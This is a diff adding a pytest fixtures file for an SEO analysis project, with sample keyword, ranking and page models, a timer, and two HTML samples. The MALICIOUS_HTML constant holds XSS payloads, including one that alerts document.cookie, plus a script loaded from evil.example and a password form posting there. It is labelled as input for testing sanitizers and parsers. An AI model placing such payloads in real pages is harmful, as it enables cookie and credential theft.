@@ -0,0 +1,270 @@
+"""Shared pytest fixtures for the Data for SEO test suite."""
+
+import asyncio
+import time
+from typing import Any, Dict
+
+import pytest
+
+from data_for_seo.config.settings import Settings
+from data_for_seo.models.seo import (
+    KeywordData,
+    RankingData,
+    SEOAnalysis,
+    SearchEngine,
+)
+
+# Constant test documents live at module level: the strings materialize
+# once at import and are shared by reference, so requesting the
+# fixtures below costs a lookup rather than rebuilding multi-KB
+# literals. Tests may also import the constants directly.
+SAMPLE_HTML = """<!DOCTYPE html>
+<html lang="en">
+<head>
+    <meta charset="utf-8">
+    <meta name="viewport" content="width=device-width, initial-scale=1">
+    <title>The 10 Best SEO Tools in 2025</title>
+    <meta name="description" content="A hands-on comparison of the best SEO tools for agencies and in-house teams.">
+    <link rel="canonical" href="https://example.com/seo-tools">
+    <script type="application/ld+json">
+    {"@context": "https://schema.org", "@type": "Article", "headline": "The 10 Best SEO Tools in 2025"}
+    </script>
+</head>
+<body>
+    <header>
+        <nav>
+            <a href="/">Home</a>
+            <a href="/blog">Blog</a>
+            <a href="/seo-tools">SEO Tools</a>
+        </nav>
+    </header>
+    <main>
+        <h1>The 10 Best SEO Tools in 2025</h1>
+        <p>Choosing the right SEO tool depends on your workflow, budget,
+        and how much of the work you want to automate. We spent three
+        weeks running the same site audits through every major platform
+        to see where each one shines.</p>
+        <h2>1. Keyword research</h2>
+        <p>Keyword research tools differ most in how they estimate search
+        volume and difficulty. <a href="/blog/keyword-difficulty">Our
+        difficulty methodology</a> explains the trade-offs.</p>
+        <img src="/img/keyword-chart.png" alt="Keyword difficulty comparison chart">
+        <h2>2. Rank tracking</h2>
+        <p>Daily rank tracking across devices and locations is table
+        stakes; the differentiators are SERP-feature reporting and
+        alerting. See the <a href="https://example.org/serp-study">SERP
+        feature study</a> for background.</p>
+        <img src="/img/rank-tracker.png" alt="Rank tracker dashboard">
+        <h2>3. Technical audits</h2>
+        <p>Crawl-based audit tools surface broken links, redirect chains,
+        and missing metadata. Smaller sites can get by with open source
+        crawlers.</p>
+        <img src="/img/audit-report.png">
+    </main>
+    <footer>
+        <p>&copy; 2025 Example Inc.</p>
+    </footer>
+</body>
+</html>
+"""
+
+MALICIOUS_HTML = """<!DOCTYPE html>
+<html>
+<head>
+    <title>Totally Legit Page<script>document.title='pwned'</script></title>
+    <meta name="description" content='"><script>alert(1)</script>'>
+</head>
+<body onload="alert('xss')">
+    <h1>Welcome</h1>
+    <img src="x" onerror="alert(document.cookie)">
+    <a href="javascript:alert('xss')">Click me</a>
+    <iframe src="https://evil.example/frame"></iframe>
+    <div style="background:url(javascript:alert(1))">styled</div>
+    <script src="https://evil.example/steal.js"></script>
+    <form action="https://evil.example/collect" method="post">
+        <input name="password" type="password">
+    </form>
+    <!-- unterminated comment
+    <p>Deeply <b>nested <i>unclosed <span>tags
+    <table><tr><td><table><tr><td><table><tr><td>nesting</td></tr>
+</body>
+</html>
+"""
+
+
+# Session-scoped rather than per test: one loop creation for the whole
+# run instead of one per test, and the autouse environment setup runs
+# its four setenv calls exactly once.
+@pytest.fixture(scope="session")
+def event_loop():
+    """Provide a single event loop shared by the whole session."""
+    loop = asyncio.new_event_loop()
+    yield loop
+    loop.close()
+
+
+@pytest.fixture(scope="session", autouse=True)
+def setup_test_environment():
+    """Pin the test environment variables for the session."""
+    mp = pytest.MonkeyPatch()
+    mp.setenv("ENVIRONMENT", "test")
+    mp.setenv("DEBUG", "false")
+    mp.setenv("LOG_LEVEL", "WARNING")
+    mp.setenv("CACHE_ENABLED", "false")
+    yield
+    mp.undo()
+
+
+@pytest.fixture(scope="session")
+def test_settings() -> Settings:
+    """Settings instance built from the pinned test environment."""
+    return Settings()
+
+
+# Shared base kwargs for the sample models. The session-scoped sample
+# fixtures validate each prototype once per run instead of once per
+# test (pydantic validation dominates fixture setup), and the factory
+# fixtures spread these same dicts so tests that need a mutated variant
+# build a fresh instance without repeating the literals.
+_SAMPLE_URL = "https://example.com/seo-tools"
+
+BASE_KEYWORD: Dict[str, Any] = dict(
+    keyword="seo tools",
+    search_volume=12000,
+    cpc=2.45,
+    competition=0.67,
+    current_position=8,
+    previous_position=12,
+    position_change=4,
+    search_engine=SearchEngine.GOOGLE,
+    location="United States",
+    language="en",
+    related_keywords=["best seo tools", "free seo tools"],
+    url=_SAMPLE_URL,
+)
+
+BASE_RANKING: Dict[str, Any] = dict(
+    url=_SAMPLE_URL,
+    keyword="seo tools",
+    position=8,
+    search_engine=SearchEngine.GOOGLE,
+    location="United States",
+    device_type="desktop",
+    featured_snippet=False,
+    impressions=4500,
+    clicks=320,
+)
+
+BASE_ANALYSIS: Dict[str, Any] = dict(
+    url=_SAMPLE_URL,
+    title="The 10 Best SEO Tools in 2025",
+    meta_description="A hands-on comparison of the best SEO tools.",
+    word_count=2400,
+    heading_structure={"h1": 1, "h2": 6, "h3": 12},
+    page_load_time=1.8,
+    mobile_friendly=True,
+    https_enabled=True,
+    internal_links=34,
+    external_links=12,
+    images_count=15,
+    images_without_alt=2,
+    seo_score=82.5,
+)
+
+
+@pytest.fixture(scope="session")
+def sample_keyword_data() -> KeywordData:
+    """Keyword research sample (session prototype; do not mutate)."""
+    return KeywordData(**BASE_KEYWORD)
+
+
+@pytest.fixture(scope="session")
+def sample_ranking_data() -> RankingData:
+    """Ranking snapshot sample (session prototype; do not mutate)."""
+    return RankingData(**BASE_RANKING)
+
+
+@pytest.fixture(scope="session")
+def sample_seo_analysis() -> SEOAnalysis:
+    """Page analysis sample (session prototype; do not mutate)."""
+    return SEOAnalysis(**BASE_ANALYSIS)
+
+
+@pytest.fixture
+def make_keyword_data():
+    """Factory for keyword samples with per-test field overrides."""
+
+    def _make(**overrides: Any) -> KeywordData:
+        return KeywordData(**{**BASE_KEYWORD, **overrides})
+
+    return _make
+
+
+@pytest.fixture
+def make_ranking_data():
+    """Factory for ranking samples with per-test field overrides."""
+
+    def _make(**overrides: Any) -> RankingData:
+        return RankingData(**{**BASE_RANKING, **overrides})
+
+    return _make
+
+
+@pytest.fixture
+def performance_timer():
+    """Simple start/stop timer for asserting on durations.
+
+    Samples time.perf_counter: monotonic, nanosecond resolution, and a
+    plain float subtraction per reading, so the timer stays cheap even
+    inside tight measurement loops.
+    """
+
+    class Timer:
+        def __init__(self):
+            self.start_time = None
+            self.end_time = None
+
+        def start(self):
+            self.start_time = time.perf_counter()
+
+        def stop(self):
+            self.end_time = time.perf_counter()
+
+        @property
+        def duration(self) -> float:
+            return self.end_time - self.start_time
+
+    return Timer()
+
+
+@pytest.fixture(scope="session")
+def _agent_cls():
+    """Resolve the agent class once per session.
+
+    The import stays lazy so collecting tests that never touch the
+    agent does not pay for loading the agents package, and the session
+    scope caches the attribute lookup for every test that does.
+    """
+    from data_for_seo.agents.seo_analyzer import SEOAnalyzerAgent
+
+    return SEOAnalyzerAgent
+
+
+@pytest.fixture
+def seo_analyzer_agent(_agent_cls, test_settings):
+    """SEO analyzer agent configured for tests."""
+    agent = _agent_cls(config={"test_mode": True})
+    agent.settings = test_settings
+    return agent
+
+
+@pytest.fixture(scope="session")
+def sample_html_content() -> str:
+    """Well-formed page HTML for parser tests."""
+    return SAMPLE_HTML
+
+
+@pytest.fixture(scope="session")
+def malicious_html_content() -> str:
+    """Hostile HTML for sanitizer and parser robustness tests."""
+    return MALICIOUS_HTML